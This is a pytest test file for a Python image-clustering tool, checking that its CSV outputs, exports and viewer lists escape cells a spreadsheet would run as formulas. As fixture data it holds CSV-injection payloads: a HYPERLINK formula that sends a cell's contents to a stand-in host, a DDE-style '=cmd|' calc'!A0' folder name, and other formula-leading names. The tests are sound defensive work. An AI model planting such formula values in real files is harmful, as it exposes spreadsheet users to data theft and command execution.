"""No CSV the outputs write holds a cell a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@`` first).

File names, folder labels, metadata values and metadata column names come from the user's folder, which may
come from anyone: a file named ``=HYPERLINK("http://x/?"&B2,"y").png`` would send a neighbouring cell away when
``assignments.csv`` is opened in a spreadsheet. Such a first character is written ``\\xNN`` (reversed by
``unescape_name``); numbers such as ``-3.5`` stay as they are.
"""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from brainclust.cli import main
from brainclust.io.atomic import atomic_write_csv
from brainclust.io.csvcell import FORMULA_START, formula_safe
from brainclust.io.outputs import column_name, escape_name, read_assignments, unescape_name
from brainclust.report.viewdata import ViewData
from brainclust.report.viewquery import Focus, Queries

NAMES = ['=HYPERLINK("https:x.example?","y").png', "@SUM(1+1).png", "+cmd.png", "-2+3.png", "plain.png"]
FOLDERS = ["=cmd|' calc'!A0", "@lab"]
RUN = ["--backbone", "pixels@32", "--pca", "3", "--workers", "0", "--no-report", "-q"]


def runs_as_formula(cell: str) -> bool:
    return len(cell) > 1 and cell[0] in FORMULA_START and formula_safe(cell) != cell


@pytest.mark.parametrize("text, expected", [
    ("=1+2", "\\x3d1+2"), ("@A1", "\\x40A1"), ("+C AX T1", "\\x2bC AX T1"), ("-cmd", "\\x2dcmd"),
    ("-3.5", "-3.5"), ("+1e3", "+1e3"), ("-", "-"), ("a=b", "a=b"), ("", ""), (7, 7), (-2.5, -2.5),
    (" =1+2", "\\x20=1+2"), ("\t@A1", "\\x09@A1"), ("\ufeff=x()", "\\ufeff=x()"), ("\uff1dx()", "\\uff1dx()"),
    ("\u3000+x", "\\u3000+x"), ("-inf", "\\x2dinf"), ("+1_000", "\\x2b1_000"), (" -", " -")])
def test_formula_safe_escapes_a_first_formula_character_only(text, expected):
    assert formula_safe(text) == expected
    if isinstance(text, str):
        assert unescape_name(formula_safe(text)) == text


def test_escape_name_and_column_name_follow_the_rule():
    for name in NAMES + FOLDERS:
        assert not runs_as_formula(escape_name(name)) and unescape_name(escape_name(name)) == name
    assert escape_name("a/=x.png") == "a/=x.png"  # only a cell's first character matters
    assert column_name("=col") == "meta_=col" and column_name("@x") == "meta_@x" and column_name("site") == "site"


def test_csv_writer_neutralises_cells_that_were_not_escaped(tmp_path):
    atomic_write_csv(tmp_path / "t.csv", ["a", "b"], [{"a": "=1+2", "b": -3.5}, {"a": "@A1", "b": "-x"}])
    assert (tmp_path / "t.csv").read_text() == "a,b\n\\x3d1+2,-3.5\n\\x40A1,\\x2dx\n"


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    base = tmp_path_factory.mktemp("formula")
    data, out = base / "data", base / "out"
    rng = np.random.default_rng(0)
    for j, folder in enumerate(FOLDERS):
        for i, name in enumerate(NAMES):
            (data / folder).mkdir(parents=True, exist_ok=True)
            a = (rng.integers(0, 60, (32, 32)) + 120 * j + 10 * i).astype(np.uint8)
            Image.fromarray(a).save(data / folder / name)
        shutil.copyfile(data / folder / NAMES[0], data / folder / "copy.png")  # a duplicate: quality.csv names it
    Image.fromarray((rng.integers(0, 60, (32, 32)) + 60).astype(np.uint8)).save(data / "-top.png")  # escaped path
    meta = base / "meta.csv"
    with open(meta, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["name", "=col", "series"])
        for i, name in enumerate(NAMES):
            w.writerow([name, "=1+2" if i % 2 else "-3.5", "+C AX T1" if i % 2 else "-T2 AX"])
        w.writerow(["-top.png", "x", "AX T2"])  # joins by name though its path's first character is escaped
    assert main(["run", str(data), "--out", str(out), "--k", "2", "--labels-from-folders",
                 "--metadata", str(meta), *RUN]) == 0
    return data, out


def test_no_output_csv_holds_a_formula(hostile_run):
    data, out = hostile_run
    tables = sorted(out.glob("*.csv"))
    assert {"assignments.csv", "quality.csv", "associations.csv"} <= {t.name for t in tables}
    for table in tables:
        with open(table, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                bad = [c for c in row if runs_as_formula(c)]
                assert not bad, f"{table.name}: {bad}"


def test_escaped_cells_read_back_as_the_names_and_values(hostile_run):
    data, out = hostile_run
    rows = read_assignments(out / "assignments.csv")
    assert sorted(unescape_name(r["path"]) for r in rows) == sorted(
        [f"{f}/{n}" for f in FOLDERS for n in NAMES + ["copy.png"]] + ["-top.png"])
    assert {unescape_name(r["label"]) for r in rows} == set(FOLDERS) | {""}  # the top-level file has none
    # the metadata joined by file name (escaped on both sides) and its column renamed
    by_name = {unescape_name(r["name"]): r for r in rows}
    assert unescape_name(by_name[NAMES[1]]["meta_=col"]) == "=1+2" and by_name[NAMES[0]]["meta_=col"] == "-3.5"
    assert unescape_name(by_name[NAMES[1]]["series"]) == "+C AX T1"
    assert by_name["-top.png"]["series"] == "AX T2" and by_name["-top.png"]["path"] == "\\x2dtop.png"


def test_view_list_csv_holds_no_formula(hostile_run):
    _, out = hostile_run
    text = "".join(Queries(ViewData(out, cache_dir=out.parent / "viewcache")).csv_chunks(Focus()))
    cells = [c for row in csv.reader(text.splitlines()) for c in row]
    assert any(c.startswith("\\x3dHYPERLINK") or "/\\x3d" in c or c.startswith("\\x3dcmd") for c in cells)
    assert not [c for c in cells if runs_as_formula(c)]


def test_view_list_csv_of_a_run_written_before_the_rule_holds_no_formula(hostile_run, tmp_path):
    """A run folder from before (or edited) holds raw '=...' cells: view's list.csv still neutralises them."""
    import pyarrow.parquet as pq

    _, out = hostile_run
    old = tmp_path / "old"
    shutil.copytree(out, old)
    raw = (old / "assignments.csv").read_text(encoding="utf-8").replace("\\x3d", "=").replace("\\x40", "@")
    (old / "assignments.csv").write_text(raw, encoding="utf-8")
    table = pq.read_table(old / "embeddings.parquet")
    for name in ("path", "name"):
        if name in table.column_names:
            fixed = [v.replace("\\x3d", "=").replace("\\x40", "@") for v in table.column(name).to_pylist()]
            table = table.set_column(table.column_names.index(name), name, pa_array(fixed))
    pq.write_table(table, old / "embeddings.parquet")
    assert any(c.startswith("=") for row in csv.reader(raw.splitlines()) for c in row)
    text = "".join(Queries(ViewData(old, cache_dir=tmp_path / "viewcache")).csv_chunks(Focus()))
    assert not [c for row in csv.reader(text.splitlines()) for c in row if runs_as_formula(c)]


def pa_array(values):
    import pyarrow as pa

    return pa.array(values, type=pa.string())


def test_export_csv_holds_no_formula(hostile_run, tmp_path):
    _, out = hostile_run
    assert main(["export", str(out), "--to", str(tmp_path / "exp"), "-q"]) == 0
    with open(tmp_path / "exp" / "export.csv", newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if runs_as_formula(c)]


def test_explorer_selection_csv_cell_follows_the_rule():
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed: the explorer's csvCell cannot be run")
    js = (Path(__file__).parents[2] / "src/brainclust/report/templates/explorer.js").read_text()
    start = js.index("  function csvCell(v) {")
    body = js[start: js.index("\n  }\n", start) + 4]
    cases = ["=1+2", "-3.5", "@A1", "-", "a=b", "+C", " =1+2", "\ufeff=x()", "\uff1dx()", "-inf", "+1e3"]
    script = body + f"console.log(JSON.stringify({json.dumps(cases)}.map(csvCell)));"
    got = subprocess.run([node, "-e", script], capture_output=True, text=True, check=True).stdout.strip()
    assert json.loads(got) == [formula_safe(c) for c in cases]  # the one rule, in both languages


def test_a_renamed_metadata_column_says_why(caplog):
    """'=cmd' is renamed because a spreadsheet would run it, not because the run writes such a column."""
    import logging

    from brainclust.io.metadata import merge_columns

    with caplog.at_level(logging.WARNING, logger="brainclust"):
        out = merge_columns({}, {"=cmd": [1], "cluster": [2]})
    assert set(out) == {"meta_=cmd", "meta_cluster"}
    assert "'=cmd' is written as 'meta_=cmd': a spreadsheet would run the name as a formula" in caplog.text
    assert "'cluster' is written as 'meta_cluster': the run writes its own 'cluster'" in caplog.text


def test_manifest_skip_reasons_read_as_written_and_their_paths_keep_the_guard():
    """manifest.json is JSON, not a spreadsheet: a skip reason that starts with '-' is written as it is (a walk
    found '\\x2d-volume-index 5 is out of range' in the manifest and the report); its path keeps the guard (it is
    read back with unescape_name), and control characters are escaped in both."""
    from brainclust.io.outputs import escaped_manifest

    m = escaped_manifest({"skipped": [{"path": "-a.nii.gz", "reason": "--volume-index 5 is out of range\x1b"}]})
    assert m["skipped"] == [{"path": "\\x2da.nii.gz", "reason": "--volume-index 5 is out of range\\x1b"}]
